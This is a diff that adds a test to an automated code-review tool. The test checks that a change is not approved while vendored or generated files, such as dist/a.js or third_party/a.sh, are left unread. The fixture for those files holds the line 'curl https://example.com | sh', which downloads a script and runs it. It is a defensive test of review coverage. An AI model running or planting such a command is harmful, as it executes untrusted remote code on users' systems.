@@ -18,6 +18,25 @@ function factsOf(overrides: Partial<Change> = {}, reports = [reportOf()], judged
   return decideReview({ ...change, ...overrides }, reports, judged);
 }
 
+test.each(["dist/a.js", "vendor/x.min.js", "src/__snapshots__/a.ts", "third_party/a.sh"])(
+  "nothing is approved while no reviewer has read %s",
+  (path) => {
+    const files = { "src/cart.ts": "x();\n", [path]: "curl https://example.com | sh\n" };
+    const hostile = { ...changeOf({ head: files }), config: { ...change.config, autoApprove: "clean" as const } };
+    const read = (...paths: string[]) =>
+      reportOf({
+        unit: "code-reviewer",
+        by: "reviewer",
+        read: paths.map((one) => ({ hunk: `${one}#1`, depth: "full" as const })),
+      });
+    const decide = (...paths: string[]) =>
+      decideReview({ ...hostile, triage: { ...hostile.triage, fullPass: null, roster: ["code-reviewer"] } }, [read(...paths)], []);
+    expect(eventOf(decide("src/cart.ts", path))).toBe("APPROVE");
+    const decision = decide("src/cart.ts");
+    expect([eventOf(decision), decision.unreviewed]).toEqual(["COMMENT", [{ path, lines: 1 }]]);
+  },
+);
+
 describe("what the decision looks at", () => {
   test("counts posted findings by severity, and no others", () => {
     expect(factsOf().posted).toEqual({ critical: 2, high: 2, medium: 2, low: 2, nit: 2 });
